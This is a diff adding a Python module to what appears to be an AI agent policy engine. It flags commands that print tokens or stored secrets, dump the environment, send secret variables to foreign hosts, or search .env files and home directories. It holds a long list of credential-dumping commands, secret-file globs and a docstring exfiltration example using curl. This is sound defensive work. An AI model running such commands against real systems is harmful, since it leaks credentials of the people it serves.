@@ -1,0 +1,319 @@
+"""Commands whose output is a secret: minting or printing tokens (`gh auth token`,
+`aws sts get-session-token`, `gcloud auth print-access-token`), reading a secret store
+(`vault kv get`, `op read`, `security find-generic-password`, a Kubernetes secret
+decoded), and dumping the environment (`env`, `printenv`, `export -p`, `set`, `ps eww`,
+`print(os.environ)`), plus secret variables printed or sent away (`echo $API_TOKEN`)."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from typing import TYPE_CHECKING
+
+from aegis_core.models import Kind
+from aegis_core.policy.facts import call_kind, url_host
+from aegis_core.policy.secretshapes import SECRET_VARIABLE, is_home_of
+
+if TYPE_CHECKING:
+    from aegis_core.policy.facts import Subject
+    from aegis_core.policy.shell import Segment
+
+# program -> sets of words that, all present among its arguments, make it print a
+# secret. Order-free on purpose: options may come anywhere.
+_PRINTS_SECRET: dict[str, tuple[tuple[str, ...], ...]] = {
+    "gh": (("auth", "token"), ("auth", "status", "-t"), ("auth", "status", "--show-token")),
+    "glab": (("auth", "status", "-t"), ("auth", "status", "--show-token"), ("config", "get", "token")),
+    "git": (("credential", "fill"), ("credential-store", "get"), ("credential-cache", "get"),
+            ("credential-osxkeychain", "get"), ("credential-libsecret", "get")),
+    "aws": (("configure", "get"), ("configure", "export-credentials"), ("sts", "get-session-token"),
+            ("sts", "assume-role"), ("sts", "assume-role-with-saml"), ("sts", "assume-role-with-web-identity"),
+            ("sts", "get-federation-token"), ("ecr", "get-login-password"), ("ecr", "get-authorization-token"),
+            ("ecr-public", "get-login-password"), ("codeartifact", "get-authorization-token"),
+            ("secretsmanager", "get-secret-value"), ("secretsmanager", "batch-get-secret-value"),
+            ("ssm", "--with-decryption"), ("kms", "decrypt"), ("sso", "get-role-credentials"),
+            ("rds", "generate-db-auth-token"), ("eks", "get-token"), ("iam", "create-access-key"),
+            ("cognito-identity", "get-credentials-for-identity"), ("ec2", "get-password-data"),
+            ("lightsail", "get-instance-access-details"), ("redshift", "get-cluster-credentials")),
+    "gcloud": (("auth", "print-access-token"), ("auth", "print-identity-token"),
+               ("auth", "application-default", "print-access-token"), ("secrets", "versions", "access"),
+               ("config", "config-helper"), ("sql", "generate-login-token"), ("keys", "create"),
+               ("kms", "decrypt")),
+    "az": (("get-access-token",), ("secret", "show"), ("secret", "download"), ("keys", "list"), ("list-keys",),
+           ("show-connection-string",), ("--expose-token",), ("credential", "show"), ("generate-sas",),
+           ("list-publishing-credentials",), ("list-publishing-profiles",), ("key", "download"),
+           ("keys", "renew"), ("credential", "reset")),
+    "vault": (("read",), ("kv", "get"), ("token", "create"), ("print", "token"), ("login",), ("unwrap",),
+              ("kv", "export")),
+    "op": (("read",), ("item", "get"), ("document", "get"), ("inject",), ("signin", "--raw"), ("run",)),
+    "bw": (("get",), ("export",), ("unlock",), ("list", "items"), ("serve",)),
+    "lpass": (("show",), ("export",)),
+    "gopass": (("show",), ("cat",), ("otp",)),
+    "security": (("find-generic-password",), ("find-internet-password",), ("dump-keychain",), ("export",)),
+    "secret-tool": (("lookup",), ("search",)),
+    "kwallet-query": (("-r",), ("--read-password",)),
+    "keyring": (("get",),),
+    "npm": (("token",),),
+    "heroku": (("auth:token",), ("config",), ("config:get",), ("authorizations:create",)),
+    "fly": (("auth", "token"), ("tokens", "create")),
+    "flyctl": (("auth", "token"), ("tokens", "create")),
+    "railway": (("variables",),),
+    "doppler": (("secrets",), ("run",)),
+    "infisical": (("secrets",), ("export",), ("run",)),
+    "chamber": (("read",), ("export",), ("exec",)),
+    "sops": (("-d",), ("--decrypt",), ("decrypt",), ("exec-env",), ("exec-file",)),
+    "ansible-vault": (("view",), ("decrypt",)),
+    "gpg": (("-d",), ("--decrypt",), ("--export-secret-keys",), ("--export-secret-subkeys",),
+            ("--show-session-key",)),
+    "gpg2": (("-d",), ("--decrypt",), ("--export-secret-keys",), ("--export-secret-subkeys",)),
+    "age": (("-d",), ("--decrypt",)),
+    "kubeseal": (("--recovery-unseal",),),
+    "aws-vault": (("exec",), ("export",), ("login",)),
+    "pulumi": (("--show-secrets",),),
+    "terraform": (("output", "-json"), ("output", "-raw"), ("show", "-json"), ("state", "pull")),
+    "tofu": (("output", "-json"), ("output", "-raw"), ("show", "-json"), ("state", "pull")),
+    "mysql_config_editor": (("print",),),
+    "mysql": (("--print-defaults",),),
+    "getent": (("shadow",), ("gshadow",)),
+    "netlify": (("env:get",), ("env:list", "--plain")),
+    "vercel": (("env", "pull"),),
+    "firebase": (("login:ci",),),
+    "stripe": (("config", "--list"),),
+    "wrangler": (("secret", "get"),),
+    "kubectl-view_secret": ((),),
+    "aegis": (("--show-secrets",),),
+}
+_CREDENTIAL_HELPERS = tuple(f"docker-credential-{name}" for name in (
+    "desktop", "osxkeychain", "wincred", "pass", "secretservice", "ecr-login", "gcloud", "gcr", "acr-env",
+    "helper"))
+# `pass`/`gopass NAME` shows a password; these subcommands do something else.
+_PASS_OTHER = frozenset({"ls", "list", "find", "search", "init", "git", "insert", "add", "generate", "edit",
+                         "rm", "remove", "mv", "cp", "help", "version", "grep", "--help", "--version"})
+_KUBE_SECRET = re.compile(r"^(secrets?|secret/\S+|secrets/\S+)$")
+_KUBE_OUTPUT = re.compile(r"^(-o|--output|--template)"
+                          r"(=?(yaml|json|jsonpath|go-template|custom-columns|template|\{)\S*)?$"
+                          r"|^-o(yaml|json|jsonpath|go-template|custom-columns)")
+
+
+def _kubernetes(texts: list[str]) -> str | None:
+    """kubectl/oc: a secret printed with its data, a token minted, a raw kubeconfig."""
+    if "config" in texts and "view" in texts and ("--raw" in texts or "--flatten" in texts):
+        return "kubectl config view --raw prints the cluster credentials"
+    if "create" in texts and "token" in texts:
+        return "kubectl create token mints a service account token"
+    if "view-secret" in texts or ("extract" in texts and any(t.startswith("secret") for t in texts)):
+        return "prints a Kubernetes secret"
+    if ("whoami" in texts and ("-t" in texts or "--show-token" in texts)):
+        return "oc whoami -t prints your token"
+    if "get" in texts and any(_KUBE_SECRET.match(t) for t in texts):
+        for i, text in enumerate(texts):
+            if _KUBE_OUTPUT.match(text):
+                value = text.split("=", 1)[1] if "=" in text else text[2:] if text.startswith("-o") and \
+                    len(text) > 2 else (texts[i + 1] if i + 1 < len(texts) else "")
+                if value.lstrip("=") not in ("name", "wide"):
+                    return "prints a Kubernetes secret's data"
+    return None
+
+
+def secret_output(seg: Segment) -> str | None:
+    """Why this command prints a secret, or None."""
+    program = seg.program
+    texts = list(seg.argv[1:])
+    if program in ("kubectl", "oc", "kubecolor"):
+        return _kubernetes(texts)
+    if program.startswith("docker-credential-") and ("get" in texts or "list" in texts):
+        return f"{program} prints stored registry passwords"
+    if program in ("pass", "gopass"):
+        words = [t for t in texts if not t.startswith("-")]
+        if words and (words[0] in ("show", "cat", "otp") or words[0] not in _PASS_OTHER):
+            return f"{program} shows a stored password"
+        return None
+    given = set(texts)
+    for needed in _PRINTS_SECRET.get(program, ()):
+        if given.issuperset(needed):
+            shown = " ".join(needed) or "(any)"
+            return f"{program} {shown} prints a secret"
+    return None
+
+
+# ---------------------------------------------------------------- the environment
+
+_GREPS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack"})
+# An interpreter printing its whole environment (a single, harmless variable is fine).
+_CODE_ENV_DUMP = re.compile(
+    r"os\.environ(?!\s*\[|\s*\.\s*(?:get|setdefault|pop|update|__setitem__)\b)"
+    r"|\bprocess\.env(?!\s*[.\[])|\bprocess\s*\[\s*['\"]env['\"]\s*\](?!\s*[.\[])|\bENV(?:\.to_h|\.each|\.inspect|\.to_a|\.keys|\.map)\b"
+    r"|\b(?:p|pp|puts|print)\s*\(?\s*ENV\b(?!\s*\[)|%ENV|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|\$_SERVER\b(?!\s*\[)"
+    r"|\bENVIRON\b(?!\s*\[)|Deno\.env\.toObject|System\.getenv\(\s*\)|os\.getenv\(\s*\)"
+)
+# An interpreter reading one variable by name: secret when the name says so.
+_CODE_ENV_NAME = re.compile(
+    r"(?:os\.environ\s*(?:\[\s*|\.get\(\s*)|getenv\(\s*|process\.env\s*(?:\.|\[\s*)|ENV\s*(?:\[\s*|\.fetch\(\s*)"
+    r"|\$ENV\{\s*|\$_ENV\s*\[\s*|ENVIRON\s*\[\s*|Deno\.env\.get\(\s*)['\"]?([A-Za-z_][A-Za-z0-9_]*)")
+_VARIABLE_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)")
+_DUMP_ALONE = frozenset({"env", "printenv", "export", "declare", "typeset", "set", "compgen"})
+
+
+def _filtered_harmlessly(subject: Subject, seg: Segment) -> bool:
+    """True when the dump only goes into a grep for names that are no secret
+    (`env | grep PATH`, `printenv | grep -i node`)."""
+    analysis = subject.analysis
+    if analysis is None:
+        return False
+    readers = [s for s in analysis.segments if seg.index in s.pipe_from]
+    if not readers or any(r.program not in _GREPS for r in readers):
+        return False
+    for reader in readers:
+        words = [t for t in reader.argv[1:] if not t.startswith("-")]
+        if not words or any(SECRET_VARIABLE.search(w) or not re.fullmatch(r"[\w^$|.*-]+", w) for w in words):
+            return False
+    return True
+
+
+def env_dump(subject: Subject) -> str | None:
+    """Why this segment prints the whole environment (or a secret variable), or None."""
+    seg = subject.segment
+    if seg is None:
+        return None
+    program = seg.program
+    texts = list(seg.argv[1:])
+    found = None
+    if program == "env" and all(t.startswith("-") or "=" in t for t in texts):
+        found = "env prints every variable, tokens included"
+    elif program == "printenv":
+        names = [t for t in texts if not t.startswith("-")]
+        if not names:
+            found = "printenv prints every variable, tokens included"
+        elif any(SECRET_VARIABLE.search(n) for n in names):
+            return f"printenv prints {' '.join(names)}"
+    elif program in ("export", "declare", "typeset", "readonly") and (not texts or (
+            all(t.startswith("-") for t in texts) and any("p" in t or "x" in t for t in texts))):
+        found = f"{program} {' '.join(texts)}".strip() + " prints every exported variable"
+    elif program == "set" and not texts:
+        found = "set prints every shell variable"
+    elif program == "ps" and any(not t.startswith("-") and "e" in t and t.isalpha() for t in texts):
+        found = "ps e shows the environment of every process"
+    elif program in ("docker", "podman", "nerdctl") and "exec" in texts[:3]:
+        inner = texts[texts.index("exec") + 1:]
+        words = [t for t in inner if not t.startswith("-")]
+        if len(words) >= 2 and (words[1] in ("env", "printenv", "set") or "/environ" in " ".join(words[1:])):
+            return f"{program} exec {words[1]} prints the container's environment (its secrets)"
+    elif seg.inline_code is not None:
+        language, code = seg.inline_code
+        dump = _CODE_ENV_DUMP.search(code)
+        if dump:
+            return f"{language} code prints the environment ({dump.group(0).strip()})"
+        for name in list(_CODE_ENV_NAME.findall(code)):
+            if SECRET_VARIABLE.search(name):
+                return f"{language} code reads the secret variable {name}"
+        return None
+    if found and not _filtered_harmlessly(subject, seg):
+        return found
+    return None
+
+
+def secret_variables(subject: Subject) -> str | None:
+    """A secret variable printed (`echo $API_TOKEN`) or sent to a host that is not its
+    own service (`curl -d "k=$OPENAI_API_KEY" https://elsewhere`)."""
+    seg = subject.segment
+    if seg is None:
+        return None
+    texts = [a.text for a in seg.args[1:] if a.dynamic]
+    if seg.stdin_text and "${" in seg.stdin_text:
+        texts.append(seg.stdin_text)
+    for text in texts:
+        for name in _VARIABLE_REF.findall(text):
+            if not SECRET_VARIABLE.search(name):
+                continue
+            if seg.program in _SENDERS:
+                hosts = [url_host(u) for u in subject.urls] or _bare_hosts(seg)
+                if hosts and all(is_home_of(name, h) for h in hosts):
+                    continue
+                return f"{seg.program} sends ${name} to {', '.join(hosts) or 'a host'}"
+            return f"{seg.program} exposes ${name}"
+    return None
+
+
+_SENDERS = frozenset({"curl", "wget", "http", "https", "httpie", "xh", "curlie", "nc", "ncat", "socat", "ssh"})
+_PRINTERS = frozenset({"echo", "printf", "print", "cat", "tee", "base64", "base32", "xxd", "od", "hexdump", "rev",
+                       "tr", "sed", "awk", "jq", "printenv", "env", "logger", "wall", "write", "dig", "nslookup",
+                       "host", "ping", "mail", "sendmail", "notify-send", "osascript", "say"})
+
+
+def _bare_hosts(seg: Segment) -> list[str]:
+    hosts = []
+    for text in seg.argv[1:]:
+        if not text.startswith("-") and re.match(r"^[A-Za-z0-9.-]+\.[A-Za-z]{2,}(:\d+)?(/|$)", text):
+            hosts.append(text.split("/", 1)[0].split(":", 1)[0].lower())
+    return hosts
+
+
+def search_secrets(subject: Subject) -> str | None:
+    """A search tool (Grep) told to look inside secret files (`glob: ".env*"`), or
+    through whole homes, where every credential store is."""
+    from aegis_core.policy.netchecks import SECRET_WORDS
+
+    call = subject.call
+    tool_input = call.input if isinstance(call.input, dict) else {}
+    for key in ("glob", "include", "file_pattern", "pattern" if call.tool in ("Glob", "glob") else ""):
+        value = tool_input.get(key) if key else None
+        if isinstance(value, str) and (SECRET_WORDS.search(value) or _SECRET_GLOB.search(value)):
+            return f"{call.tool} looks into secret files ({key}={value!r})"
+    return None
+
+
+def search_homes(subject: Subject) -> str | None:
+    """A content search (Grep) through a whole home or every home."""
+    from aegis_core.policy.paths import is_within
+
+    if subject.call.tool in ("Glob", "glob"):
+        return None  # listing names shows no content
+    for path in subject.reads:
+        if path in ("/", "/home", "/Users", "/root", "/var/home") or is_within(subject.home, path) \
+                or re.fullmatch(r"/(home|Users)/[^/]+", path):
+            return f"{subject.call.tool} searches the contents of {path}, credential stores included"
+    return None
+
+
+# File names of secrets as a search glob names them (`.env*`, `*.pem`, `**/id_*`).
+_SECRET_GLOB = re.compile(r"(?i)(^|/|\*)\.env(\*|\b(?!\.example|\.sample|\.template))"
+                          r"|\*\.(pem|key|p12|pfx|kdbx|tfstate)\b"
+                          r"|id_(rsa|ed25519|ecdsa|\*)|credentials|\.netrc|\.pgpass|_history|\.npmrc|\.pypirc|secrets?\.")
+
+
+def register(check: Callable) -> None:
+    @check("credential-dump", 50, "prints a token, a password or a stored secret (gh auth token, aws sts "
+           "get-session-token, gcloud auth print-access-token, vault kv get, op read, a Kubernetes secret, "
+           "security find-generic-password...)",
+           programs=(*_PRINTS_SECRET, *_CREDENTIAL_HELPERS, "kubectl", "oc", "kubecolor", "pass", "gopass"))
+    def _credentials(subject: Subject) -> str | None:
+        seg = subject.segment
+        return secret_output(seg) if seg is not None else None
+
+    @check("search-secrets", 45, "a search tool told to read secret files (glob: \".env*\") or whole homes",
+           needs=("call",))
+    def _search(subject: Subject) -> str | None:
+        if subject.segment is not None or call_kind(subject.call) is not Kind.SEARCH:
+            return None
+        return search_secrets(subject)
+
+    @check("search-homes", 30, "a content search through a whole home or every home", needs=("call",))
+    def _homes(subject: Subject) -> str | None:
+        if subject.segment is not None or call_kind(subject.call) is not Kind.SEARCH:
+            return None
+        return search_homes(subject)
+
+    @check("env-dump", 40, "prints the whole environment (env, printenv, export -p, set, ps eww, "
+           "print(os.environ)) or a secret variable from a one-liner",
+           programs=("env", "printenv", "export", "declare", "typeset", "readonly", "set", "ps", "docker",
+                     "podman", "nerdctl"), needs=("inline",))
+    def _env(subject: Subject) -> str | None:
+        return env_dump(subject)
+
+    @check("secret-variable", 45, "a secret variable ($API_TOKEN, $DB_PASSWORD...) printed, or sent to a "
+           "host that is not its own service",
+           programs=_PRINTERS | _SENDERS)
+    def _variables(subject: Subject) -> str | None:
+        seg = subject.segment
+        if seg is None or (seg.program not in _PRINTERS and seg.program not in _SENDERS):
+            return None
+        return secret_variables(subject)
